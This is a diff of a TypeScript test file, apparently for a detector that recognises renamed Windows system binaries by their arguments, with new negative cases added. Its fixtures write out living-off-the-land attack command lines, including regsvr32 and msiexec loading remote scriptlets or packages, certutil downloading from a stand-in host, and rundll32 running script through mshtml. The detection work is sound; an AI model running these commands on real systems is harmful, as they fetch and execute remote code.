@@ -22,6 +22,7 @@ const windows = (image: string, rest: string, originalFileName?: string): Reques
 const ACTS: readonly (readonly [binary: string, original: string, rest: string, behaviour: string])[] = [
   ["regsvr32.exe", "REGSVR32.EXE", "/s /i:http://h.example/a.sct scrobj.dll", "scriptlet"],
   ["rundll32.exe", "RUNDLL32.EXE", "D:\\t\\a.dll,#1", "export"],
+  ["rundll32.exe", "RUNDLL32.EXE", "D:\\t\\a.dat,Start", "export"],
   ["rundll32.exe", "RUNDLL32.EXE", 'javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', "script"],
   ["certutil.exe", "CertUtil.exe", "-urlcache -split -f http://h.example/a D:\\b", "download"],
   ["msiexec.exe", "msiexec.exe", "/qn /i http://h.example/a.msi", "remote-package"],
@@ -50,11 +51,30 @@ describe("a copy under another name", () => {
     expect(found.ids.map((id) => id.split("/").at(-1))).toContain(behaviour);
   });
 
-  /** The first eight show themselves by what nobody else is given. */
-  it.each(ACTS.slice(0, 8))("%s is known by its arguments alone: %s %s", (binary, _, rest, behaviour) => {
-    const found = who(windows("D:\\t\\svc-host7.exe", rest));
-    expect(found).toMatchObject({ name: binary, renamed: true, by: "behaviour" });
-    expect(found.ids.map((id) => id.split("/").at(-1))).toContain(behaviour);
+  /** What others are given, too, tells nobody. */
+  const silent = ["mshta.exe", "cmstp.exe", "msbuild.exe", "installutil.exe", "forfiles.exe"];
+  it.each(ACTS.filter(([binary]) => !silent.includes(binary)))(
+    "%s is known by its arguments alone: %s %s",
+    (binary, _, rest, behaviour) => {
+      const found = who(windows("D:\\t\\svc-host7.exe", rest));
+      expect(found).toMatchObject({ name: binary, renamed: true, by: "behaviour" });
+      expect(found.ids.map((id) => id.split("/").at(-1))).toContain(behaviour);
+    },
+  );
+});
+
+describe("a line that another program may well be given", () => {
+  it.each([
+    "/transfer all D:\\t\\a.cfg D:\\t\\b.cfg",
+    "D:\\t\\list.txt,done",
+    "C:\\ProgramData\\app\\icons.ico,2",
+    '"C:\\Program Files\\App\\layout.dat",Main',
+    "--message {registered} /a",
+    "call create process",
+    "--install http://h.example/update.json",
+    "/config=D:\\t\\a.inf --verbose",
+  ])("%s tells nothing", (rest) => {
+    expect(who(windows("C:\\Program Files\\App\\app.exe", rest))).toMatchObject({ renamed: false, ids: [] });
   });
 });
 
